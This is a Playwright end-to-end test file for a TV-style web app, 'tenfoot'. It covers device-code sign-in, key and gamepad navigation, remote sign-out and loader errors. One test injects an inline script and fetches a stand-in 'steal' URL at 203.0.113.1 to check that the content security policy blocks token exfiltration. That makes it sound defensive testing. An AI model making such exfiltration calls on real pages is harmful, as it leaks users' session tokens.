// Browser end-to-end test of the web build: starts tenfootd on a free port,
// opens the page in headless Chromium, and drives the app with real key
// presses, checking what the app publishes on window.tenfoot:
//   { frames: number, focused: label of the focused item, screen: name }.
// Labels and screen names are read from the app, never assumed. The environment
// it reads is described in harness.mjs.

import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { once } from 'node:events';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { chromium } from 'playwright-core';
import {
  CHROMIUM, CHROMIUM_ARGS, CSP_VIOLATION, FIRST_FRAME_TIMEOUT, REMOTE_BACK, SHOTS, STEP_TIMEOUT, TENFOOTD_BIN, TENFOOT_WEB,
  assertAnnounced, closeSettled, expectedFailure, frames, press, problems, reportPolicyViolations, startServer, state, until, waitFor,
} from './harness.mjs';

describe('tenfoot in the browser', () => {
  let server;
  let context;
  let page;
  let profileDir;
  let wasmResponse;
  let navigationStart;
  const timings = {};

  // screenshot saves e2e-NAME.png, NAME being numbered in the order of the steps.
  const screenshot = (name, p = page) => p.screenshot({ path: path.join(SHOTS, `e2e-${name}.png`) });

  before(async () => {
    await fs.access(TENFOOTD_BIN).catch(() => {
      throw new Error(`no tenfootd at ${TENFOOTD_BIN}: build it and set TENFOOTD_BIN`);
    });
    await fs.access(path.join(TENFOOT_WEB, 'tenfoot.wasm')).catch(() => {
      throw new Error(`no tenfoot.wasm in ${TENFOOT_WEB}: build the web app and set TENFOOT_WEB`);
    });
    await fs.mkdir(SHOTS, { recursive: true });
    server = await startServer();

    profileDir = await fs.mkdtemp(path.join(os.tmpdir(), 'tenfoot-e2e-'));
    context = await chromium.launchPersistentContext(profileDir, {
      executablePath: CHROMIUM,
      headless: true,
      viewport: { width: 1280, height: 720 },
      args: CHROMIUM_ARGS,
    });
    await reportPolicyViolations(context);
    page = context.pages()[0] ?? await context.newPage();
    page.on('pageerror', (err) => problems.push(`page error: ${err.stack || err}`));
    page.on('console', (msg) => {
      if (msg.type() === 'error' && !expectedFailure(msg)) problems.push(`console error: ${msg.text()}`);
    });
    // Note the first frame from inside the page, in the page's own clock,
    // which starts at navigation.
    await page.addInitScript(() => {
      const poll = () => {
        if (window.tenfoot && window.tenfoot.frames > 0) {
          window.__tenfootFirstFrameMs = performance.now();
        } else {
          requestAnimationFrame(poll);
        }
      };
      requestAnimationFrame(poll);
    });
  });

  after(async () => {
    try {
      await context?.close();
      if (profileDir) await fs.rm(profileDir, { recursive: true, force: true });
      if (Object.keys(timings).length > 0) {
        await fs.writeFile(path.join(SHOTS, 'e2e-timings.json'), JSON.stringify(timings, null, 2) + '\n');
      }
    } finally {
      if (server && server.proc.exitCode === null) {
        server.proc.kill('SIGTERM');
        const [code] = await once(server.proc, 'exit');
        assert.equal(code, 0, `tenfootd shuts down cleanly on SIGTERM: ${server.stderr()}`);
      }
    }
  });

  it('loads the page and the brotli-compressed wasm', async () => {
    const wasm = page.waitForResponse((r) => new URL(r.url()).pathname.endsWith('/tenfoot.wasm'));
    navigationStart = Date.now();
    const doc = await page.goto(server.url, { waitUntil: 'domcontentloaded' });
    assert.equal(doc.status(), 200);
    assert.equal(await page.title(), 'tenfoot');
    // The app runs under this policy; a violation would be a console error, and
    // the last step checks there was none.
    const csp = (await doc.allHeaders())['content-security-policy'] ?? '';
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval';/);
    assert.match(csp, /frame-ancestors 'none'/);
    assert.doesNotMatch(csp, /'unsafe-inline'|'unsafe-eval'/);
    await screenshot('00-loading');

    wasmResponse = await wasm;
    const h = await wasmResponse.allHeaders();
    assert.equal(wasmResponse.status(), 200);
    assert.equal(h['content-type'], 'application/wasm');
    assert.equal(h['content-encoding'], 'br', 'the browser accepts br, so it gets br');
    assert.match(h['vary'] ?? '', /Accept-Encoding/i);
    const raw = (await fs.stat(path.join(TENFOOT_WEB, 'tenfoot.wasm'))).size;
    assert.equal(h['x-decoded-length'], String(raw));
    timings.wasmBytes = raw;
    timings.wasmTransferBytes = Number(h['content-length']) || null;
  });

  it('draws a first frame and hides the loader', async () => {
    // The init script notes the time as it sees the first frame.
    await waitFor(page, 'the first frame is drawn', () => window.__tenfootFirstFrameMs !== undefined,
      undefined, FIRST_FRAME_TIMEOUT);
    timings.firstFrameMs = Math.round(await page.evaluate(() => window.__tenfootFirstFrameMs));
    timings.firstFrameWallMs = Date.now() - navigationStart;
    console.log(`e2e: first frame ${timings.firstFrameMs} ms after navigation ` +
      `(tenfoot.wasm ${(timings.wasmBytes / 1e6).toFixed(1)} MB, ` +
      `${((timings.wasmTransferBytes ?? 0) / 1e6).toFixed(2)} MB brotli)`);
    // The app names its screen and focus once it has laid the first one out.
    await waitFor(page, 'the app publishes its screen and focus',
      () => Boolean(window.tenfoot.screen && window.tenfoot.focused));
    await waitFor(page, 'the loader is gone',
      () => getComputedStyle(document.getElementById('loader')).opacity === '0');
    assert.equal(await page.evaluate(() => document.activeElement?.tagName), 'CANVAS',
      'the canvas has the keyboard focus');
    assert.equal(await page.evaluate(() => document.getElementById('error').textContent), '');
    await screenshot('01-start');
  });

  let first; // state on the first screen: the sign-in screen of a new device
  let home; // state on the home screen, before opening a title

  it('moves focus with the arrow keys', async () => {
    first = await state(page);
    assert.equal(first.screen, 'signin', 'a new device of the service starts signed out');
    assert.equal(first.focused, 'Sign in with your phone', 'signing in with a code comes first');
    await assertAnnounced(page);
    await press(page, 'ArrowDown', `focus moves away from ${JSON.stringify(first.focused)}`,
      (prev) => window.tenfoot.focused !== prev, first.focused);
    await assertAnnounced(page);
    await screenshot('02-down');
    await press(page, 'ArrowUp', 'focus is back', (prev) => window.tenfoot.focused === prev, first.focused);
  });

  // The TV shows a code; a phone opens the activation page (what the QR code opens),
  // signs in and approves it; the TV signs itself in.
  it('signs in with a code approved on a phone', async () => {
    await press(page, 'Enter', 'the code screen', () => window.tenfoot.screen === 'signin-code');
    await waitFor(page, 'a code to say', () => /Your code is [A-Z]{4}-[A-Z]{4}/.test(window.tenfoot.title));
    const { title } = await state(page);
    const code = /Your code is ([A-Z]{4}-[A-Z]{4})/.exec(title)[1];
    assert.match(title, /Enter it at http:\/\/127\.0\.0\.1:\d+\/activate\./, 'the screen reader says where');
    await screenshot('03-code');

    const phone = await context.newPage();
    try {
      await phone.setViewportSize({ width: 390, height: 844 });
      await phone.goto(new URL(`activate?code=${code}`, server.url).href);
      await phone.fill('#email', 'ana@example.com');
      await phone.fill('#password', 'watch-together');
      await phone.click('button[type=submit]');
      // The link's code is not approved by opening it: the page names the TV first.
      await phone.getByRole('heading', { name: /^Sign in Chrom(e|ium) on Linux \(web browser\) to Ana \(a•••@example\.com\)\?$/ }).waitFor();
      assert.equal(await phone.locator('.code').textContent(), code, 'the code from the link, to check against the TV');
      await phone.getByRole('button', { name: 'Sign in this TV' }).click();
      await phone.getByText('Your TV is signing in').waitFor();
      await phone.screenshot({ path: path.join(SHOTS, 'e2e-04-phone-approved.png') });
    } finally {
      await closeSettled(phone);
    }
    await waitFor(page, 'the TV signs itself in', () => window.tenfoot.screen === 'profiles', undefined, 30_000);
    assert.equal((await state(page)).focused, 'Ana');
    await screenshot('05-whos-watching');
  });

  it('opens a screen with Enter', async () => {
    await press(page, 'Enter', 'the profile opens on Home', () => window.tenfoot.screen === 'home');
    await press(page, 'ArrowDown', 'focus moves down a row', () => window.tenfoot.screen === 'home');
    home = await state(page);
    await press(page, 'Enter', 'a title opens', () => window.tenfoot.screen === 'details');
    await assertAnnounced(page);
    await screenshot('06-enter');
  });

  it('goes back with Backspace to the same focus', async () => {
    await press(page, 'Backspace', 'Home again', () => window.tenfoot.screen === 'home');
    assert.equal((await state(page)).focused, home.focused, 'focus returns to where it was');
    await assertAnnounced(page);
  });

  it('goes back with the Back key of a TV remote', async () => {
    await press(page, 'Enter', 'a title opens', () => window.tenfoot.screen === 'details');

    // Playwright knows no key code 461; send it as the remote's driver would.
    const cdp = await context.newCDPSession(page);
    const key = {
      windowsVirtualKeyCode: REMOTE_BACK,
      nativeVirtualKeyCode: REMOTE_BACK,
      code: '',
      key: 'GoBack',
    };
    await cdp.send('Input.dispatchKeyEvent', { type: 'keyDown', ...key });
    await cdp.send('Input.dispatchKeyEvent', { type: 'keyUp', ...key });
    await cdp.detach();

    await waitFor(page, 'remote Back returns Home', () => window.tenfoot.screen === 'home');
    assert.equal((await state(page)).focused, home.focused, 'focus returns to where it was');
    await assertAnnounced(page);
    await screenshot('07-remote-back');
  });

  // A media key that a keyboard has too (179) and Tizen's play/pause (10252) reach
  // the page twice over, as a key and as a remote's key code: each press is still
  // one. LG's and Samsung's own Play (415) and Pause (19) keys play and pause.
  it('plays and pauses with the media keys, one press at a time', async () => {
    const remote = async (keyCode, key) => {
      const cdp = await context.newCDPSession(page);
      const k = { windowsVirtualKeyCode: keyCode, nativeVirtualKeyCode: keyCode, code: '', key };
      await cdp.send('Input.dispatchKeyEvent', { type: 'keyDown', ...k });
      await cdp.send('Input.dispatchKeyEvent', { type: 'keyUp', ...k });
      await cdp.detach();
    };
    const playing = () => page.evaluate(() => window.tenfoot.shows('Playing'));
    await press(page, 'Enter', 'a title opens', () => window.tenfoot.screen === 'details');
    await page.keyboard.press('MediaPlayPause'); // code MediaPlayPause, key code 179
    await waitFor(page, 'the player', () => window.tenfoot.screen === 'player');
    await frames(page, 10, 'a second press, if there were one, to take effect');
    assert.ok(await playing(), 'the media key opened the title playing, not paused');
    for (const [keyCode, key, playsAfter] of [[10252, 'MediaPlayPause', false], [415, 'MediaPlay', true],
      [415, 'MediaPlay', true], [19, 'MediaPause', false], [19, 'MediaPause', false], [179, 'MediaPlayPause', true]]) {
      await remote(keyCode, key);
      await waitFor(page, `${key} (${keyCode}) leaves it ${playsAfter ? 'playing' : 'paused'}`,
        (p) => window.tenfoot.shows(p ? 'Playing' : 'Paused'), playsAfter);
      await frames(page, 10, 'a second press, if there were one, to take effect');
      assert.equal(await playing(), playsAfter, `after ${key} (${keyCode})`);
    }
    await press(page, 'Escape', 'back on the title', () => window.tenfoot.screen === 'details');
    await press(page, 'Escape', 'Home again', () => window.tenfoot.screen === 'home');
    assert.equal((await state(page)).focused, home.focused, 'focus returns to where it was');
  });

  // With a mouse, as on the web: hovering the profile picture in the upper right
  // opens the profile menu, which has Sign out. The canvas is 1920×1080 shown at the
  // page's 1280×720, so the picture's centre (1788, 90) is at (1192, 60).
  it('opens the profile menu when the mouse hovers the picture', async () => {
    await page.mouse.move(600, 400);
    await page.mouse.move(1192, 60, { steps: 5 });
    await waitFor(page, 'the profile menu', () => window.tenfoot.screen === 'profile-menu');
    assert.equal((await state(page)).focused, 'Switch profile');
    await screenshot('08-profile-menu-hover');
    await press(page, 'Escape', 'Escape closes it', () => window.tenfoot.screen === 'home');
  });

  // The main TV flow: Home, Settings, Sign out, a dialog that names the account,
  // Sign out, the sign-in screen.
  it('signs out from Settings after a dialog that names the account', async () => {
    // The mouse left focus wherever it passed; arrows take over from there. From
    // the profile picture, Down reaches the titles, and Left the menu beside them.
    for (let i = 0; i < 6 && (await state(page)).focused !== 'Home'; i++) {
      const from = (await state(page)).focused;
      await press(page, from === 'Ana' ? 'ArrowDown' : 'ArrowLeft', `a move from ${from}`,
        (prev) => window.tenfoot.focused !== prev, from);
    }
    await waitFor(page, 'the menu', () => window.tenfoot.focused === 'Home');
    await press(page, 'ArrowDown', 'Settings in the menu', () => window.tenfoot.focused === 'Settings');
    await press(page, 'Enter', 'Settings opens', () => window.tenfoot.screen === 'settings');
    await press(page, 'ArrowDown', 'Account', () => window.tenfoot.focused === 'Account');
    await press(page, 'ArrowDown', 'Sign out', () => window.tenfoot.focused === 'Sign out');
    await press(page, 'Enter', 'the sign-out dialog', () => window.tenfoot.screen === 'signout');
    const dialog = await state(page);
    assert.match(dialog.title, /^Sign out of Ana \(a•••@example\.com\)\?$/, 'the dialog names the account');
    assert.equal(dialog.focused, 'Cancel', 'Cancel has focus first');
    assert.match(dialog.announced, /^Sign out of Ana \(a•••@example\.com\)\? Profiles on this .+\. .+ Cancel$/,
      'a screen reader hears the question, the profiles, what is lost, then Cancel');
    await screenshot('09-signout-dialog');

    await press(page, 'ArrowRight', 'Sign out, a deliberate move away', () => window.tenfoot.focused === 'Sign out');
    await press(page, 'Enter', 'the sign-in screen', () => window.tenfoot.screen === 'signin');
    const signin = await state(page);
    assert.equal(signin.title, 'Sign in to tenfoot');
    assert.equal(signin.focused, 'Sign in with your phone', 'signing in with a code comes first');
    await screenshot('10-signed-out');

    // A reload finds the device signed out: the sign-out was kept, not just shown.
    await page.reload();
    await waitFor(page, 'the app starts again', () => Boolean(window.tenfoot && window.tenfoot.screen),
      undefined, FIRST_FRAME_TIMEOUT);
    assert.equal((await state(page)).screen, 'signin');
  });

  // Another device signs every device out: the page hears it over its event stream
  // and shows the sign-in screen at once, not hours later.
  it('is signed out from another device within a second', async () => {
    const api = (p, token, body) => fetch(new URL(`api/v1${p}`, server.url), {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', ...(token ? { Authorization: `Bearer ${token}` } : {}) },
      body: JSON.stringify(body ?? {}),
    }).then(async (r) => ({ status: r.status, json: await r.json() }));
    const phone = await api('/signin', null, {
      device: { id: crypto.randomUUID(), name: "Ana's Phone", kind: 'phone', secret: Buffer.from(crypto.getRandomValues(new Uint8Array(32))).toString('base64url') },
      email: 'ana@example.com', password: 'watch-together',
    });
    assert.equal(phone.status, 200);
    const token = phone.json.token;

    await press(page, 'Enter', 'the code screen', () => window.tenfoot.screen === 'signin-code');
    await waitFor(page, 'a code to say', () => /Your code is [A-Z]{4}-[A-Z]{4}/.test(window.tenfoot.title));
    const code = /Your code is ([A-Z]{4}-[A-Z]{4})/.exec((await state(page)).title)[1];
    assert.equal((await api('/device/approve', token, { user_code: code })).status, 200);
    await waitFor(page, 'the TV signs itself in', () => window.tenfoot.screen === 'profiles', undefined, 30_000);
    await press(page, 'Enter', 'Home', () => window.tenfoot.screen === 'home');
    // The page hears of the sign-out on its event stream: wait until the service
    // lists a device of the account (the page, the only one listening) online.
    await until('the page listens to the account\'s events', async () => {
      const r = await fetch(new URL('api/v1/devices', server.url), { headers: { Authorization: `Bearer ${token}` } });
      return r.ok && (await r.json()).some((d) => d.online);
    });

    const start = Date.now();
    const all = await api('/signout-all', token, { password: 'watch-together' });
    assert.equal(all.status, 200);
    await waitFor(page, 'the page shows the sign-in screen', () => window.tenfoot.screen === 'signin', undefined, 5_000);
    const ms = Date.now() - start;
    timings.signedOutRemotelyMs = ms;
    console.log(`e2e: signed out from another device in ${ms} ms`);
    assert.ok(ms < 1000, `within a second, took ${ms} ms`);
    assert.match((await state(page)).title, /Sign in/);
    await screenshot('11-signed-out-elsewhere');
  });

  // Playwright has no gamepad, but Ebitengine reads navigator.getGamepads() every
  // tick, so a standard-layout pad stubbed in the page is driven like a real one.
  it('is driven with a standard gamepad: d-pad, left stick, A and B', async () => {
    const p = await context.newPage();
    p.on('pageerror', (err) => problems.push(`gamepad page error: ${err.stack || err}`));
    p.on('console', (msg) => {
      if (msg.type() === 'error' && !expectedFailure(msg)) problems.push(`gamepad page console error: ${msg.text()}`);
    });
    try {
      await p.addInitScript(() => {
        const buttons = Array.from({ length: 17 }, () => ({ pressed: false, touched: false, value: 0 }));
        const pad = {
          id: 'Standard Gamepad (stub)', index: 0, connected: true, mapping: 'standard',
          buttons, axes: [0, 0, 0, 0], timestamp: 0,
        };
        navigator.getGamepads = () => [pad, null, null, null];
        window.__pad = {
          button(i, down) { buttons[i] = { pressed: down, touched: down, value: down ? 1 : 0 }; pad.timestamp++; },
          stick(x, y) { pad.axes[0] = x; pad.axes[1] = y; pad.timestamp++; },
        };
      });
      // Start from a new household: the main flow signed this browser out.
      await p.addInitScript(() => {
        if (!sessionStorage.getItem('tenfoot-e2e-fresh')) {
          localStorage.clear();
          sessionStorage.setItem('tenfoot-e2e-fresh', '1');
        }
      });
      await p.goto(server.url);
      await waitFor(p, 'the app publishes its screen and focus',
        () => Boolean(window.tenfoot && window.tenfoot.screen && window.tenfoot.focused),
        undefined, FIRST_FRAME_TIMEOUT);
      const start = await state(p);
      assert.equal(start.screen, 'signin');

      // hold presses a button for a few frames, until the app has polled the pad
      // with it down, far shorter than key repeat, then lets go the same way.
      const hold = async (fn) => {
        await p.evaluate(fn, true);
        await frames(p, 3, 'the app sees the button down');
        await p.evaluate(fn, false);
        await frames(p, 3, 'the app sees the button up');
      };
      const dpadDown = (down) => window.__pad.button(13, down);
      const stickUp = (down) => window.__pad.stick(0, down ? -0.9 : 0);
      const buttonA = (down) => window.__pad.button(0, down);
      const buttonB = (down) => window.__pad.button(1, down);

      await hold(dpadDown);
      await waitFor(p, 'the d-pad moves focus', (prev) => window.tenfoot.focused !== prev, start.focused);
      await hold(stickUp);
      await waitFor(p, 'the left stick moves focus back', (prev) => window.tenfoot.focused === prev, start.focused);
      await hold(buttonA);
      await waitFor(p, 'A opens the code screen', () => window.tenfoot.screen === 'signin-code');
      await screenshot('12-gamepad-a', p);
      await hold(buttonB);
      await waitFor(p, 'B goes back', () => window.tenfoot.screen === 'signin');
      assert.equal((await state(p)).focused, start.focused, 'focus returns to where it was');
    } finally {
      await p.close();
    }
  });

  // The loader's failures are shown on a page of their own, whose errors are
  // expected and not counted.
  for (const { name, what, fulfill } of [
    {
      name: '13-download-error',
      what: 'Could not download tenfoot',
      fulfill: { status: 404, contentType: 'text/plain', body: 'not found' },
    },
    {
      name: '14-start-error',
      what: 'Could not start tenfoot',
      fulfill: { status: 200, contentType: 'application/wasm', body: 'this is not WebAssembly' },
    },
  ]) {
    it(`shows "${what}" on the page`, async () => {
      const p = await context.newPage();
      try {
        await p.route('**/tenfoot.wasm', (route) => route.fulfill(fulfill));
        await p.goto(server.url);
        await p.waitForFunction(() => document.getElementById('error').textContent !== '',
          undefined, { timeout: STEP_TIMEOUT });
        const shown = await p.evaluate(() => ({
          text: document.getElementById('error').textContent,
          visible: document.getElementById('error').checkVisibility(),
        }));
        assert.ok(shown.visible, 'the error is visible');
        assert.match(shown.text, new RegExp(`^${what}\\.`));
        await screenshot(name, p);
      } finally {
        await p.close();
      }
    });
  }

  // The token is in localStorage: the policy is what keeps a script that got into
  // the page from running, or from fetching the token to another site.
  it('refuses an injected inline script and a fetch to another site', async () => {
    const p = await context.newPage();
    const refused = [];
    const bothReported = new Promise((resolve) => {
      p.on('console', (msg) => {
        if (msg.text().startsWith(CSP_VIOLATION) && refused.push(msg.text()) === 2) resolve();
      });
    });
    try {
      await p.goto(server.url, { waitUntil: 'domcontentloaded' });
      const ran = await p.evaluate(async () => {
        const s = document.createElement('script');
        s.textContent = 'window.injected = true';
        document.head.append(s);
        const fetched = await fetch('http://203.0.113.1/steal').then(() => true, () => false);
        return { script: window.injected === true, fetched };
      });
      assert.deepEqual(ran, { script: false, fetched: false });
      await Promise.race([bothReported, new Promise((_, reject) => {
        setTimeout(() => reject(new Error(`reported only ${JSON.stringify(refused)}`)), STEP_TIMEOUT).unref();
      })]);
      assert.match(refused[0], /script-src-elem refused inline/);
      assert.match(refused[1], /connect-src refused http:\/\/203\.0\.113\.1\/steal/);
    } finally {
      await p.close();
    }
  });

  it('logged no page errors and no console errors', () => {
    assert.deepEqual(problems, []);
  });
});
